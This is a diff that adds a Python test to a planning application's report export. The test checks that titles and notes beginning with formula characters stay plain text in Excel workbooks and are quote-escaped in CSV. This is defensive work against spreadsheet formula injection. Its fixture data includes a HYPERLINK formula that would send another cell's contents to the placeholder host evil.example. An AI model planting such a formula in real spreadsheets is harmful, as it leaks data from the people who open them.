@@ -227,6 +227,32 @@ def test_a_restricted_measure_is_a_restricted_measure_to_outsiders_in_every_form
         book.close()
 
 
+def test_text_that_looks_like_a_formula_stays_text_in_workbooks_and_csv(
+    sector: Sector, tmp_path: Path
+) -> None:
+    """A proposer's title or FI's reason beginning with = + - @ is never a live formula."""
+    sector.clock.set(at("2026-02-10 10:00"))
+    link = '=HYPERLINK("http://evil.example/?"&B3,"Klicka")'
+    left_out, decided = sector.propose(link), sector.propose("@SUM(A1:A9)")
+    sector.clock.set(at("2026-05-12 10:00"))
+    sector.move("deprioritise", left_out, actor=COORDINATOR, note="=1+1")
+    sector.move("prioritise", decided, actor=COORDINATOR)
+    sector.clock.set(at("2026-08-12 10:00"))
+    sector.move("decide", decided, actor=DECIDER, owner=OWNER, due=date(2027, 5, 31))
+    report = build(
+        sector.uow(write=False), sector.calendar, "plan", 2027, reader(sector, COORDINATOR), "sv"
+    )
+    target = tmp_path / "plan.xlsx"
+    write(report, "xlsx", target)
+    book = load_workbook(target)
+    left, measures = book["Bortprioriterade förslag"], book["Beslutade åtgärder"]
+    assert (left["A2"].value, left["B2"].value, left["D2"].value) == (left_out, link, "=1+1")
+    assert (measures["A2"].value, measures["B2"].value) == (decided, "@SUM(A1:A9)")
+    assert {left["B2"].data_type, left["D2"].data_type, measures["B2"].data_type} == {"s"}
+    rows = list(csv.reader(io.StringIO(str(write(report, "csv", None)))))
+    assert rows[1][:2] == [decided, "'@SUM(A1:A9)"]
+
+
 def test_my_organisations_items_with_their_history(sector: Sector, cycle: dict[str, str]) -> None:
     """A proposer's view: Nordbanken's items in every cycle, each with its history."""
     view = mine(sector.uow(write=False), sector.calendar, reader(sector, PROPOSER), "en")
